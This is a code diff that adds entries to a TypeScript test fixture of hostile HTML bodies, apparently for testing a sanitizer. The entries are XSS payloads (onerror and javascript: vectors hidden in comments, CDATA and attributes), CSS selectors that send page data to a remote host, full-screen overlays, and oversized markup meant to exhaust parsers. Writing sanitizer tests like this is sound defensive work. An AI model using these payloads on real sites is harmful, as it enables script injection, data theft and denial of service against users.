@@ -26,4 +26,14 @@ export const hostileBodies: Record<string, (remote: string) => string> = {
   late: () =>
     `see https://safe.example/path"onmouseover="top.pwned() and <b>https://safe.example/&lt;img src=x onerror=top.pwned()&gt;</b>`,
   nested: () => `${"<div>".repeat(20_000)}deep${"</div>".repeat(20_000)}`,
+  comments: () =>
+    `<!--><img src=x onerror=top.pwned()>--><!--!><img src=x onerror=top.pwned()>--><![CDATA[<img src=x onerror=top.pwned()>]]><?xml <img src=x onerror=top.pwned()>?><xmp><img src=x onerror=top.pwned()></xmp><plaintext-x><textarea><img src=x onerror=top.pwned()></textarea>`,
+  attributes: () =>
+    `<a xlink:href="javascript:top.pwned()" ping="javascript:top.pwned()">a</a><img srcset="javascript:top.pwned() 1x" background="javascript:top.pwned()" poster="javascript:top.pwned()"><table background="javascript:top.pwned()"><tr><td style="behavior:url(#x);-moz-binding:url(//x)">x</td></tr></table><p style="color:red;&#10;position:fixed">x</p>`,
+  selectors: (remote) =>
+    `<style>:has(a){background:url(${remote}/has.png)} input[value^=a]{background:url(${remote}/a)} #x{position:fixed;z-index:2147483647}</style><div style="position:absolute;top:-9999px;z-index:2147483647;background-image:url(&quot;${remote}/q.png&quot;)">x</div><p style="background:\\75rl(${remote}/escaped.png);content:url(${remote}/c.png);cursor:url(${remote}/cur),auto;mask:url(${remote}/m.svg)">x</p>`,
+  tables: () => `${"<table><tr><td>".repeat(60)}<img src=x onerror=top.pwned()>${"</td></tr></table>".repeat(60)}`,
+  siblings: () => "<i>x</i>".repeat(50_000),
+  "twenty thousand attributes": () =>
+    `<p ${Array.from({ length: 20_000 }, (_, index) => `data-a${index}="x" onclick${index}="top.pwned()"`).join(" ")}>many</p>`,
 }
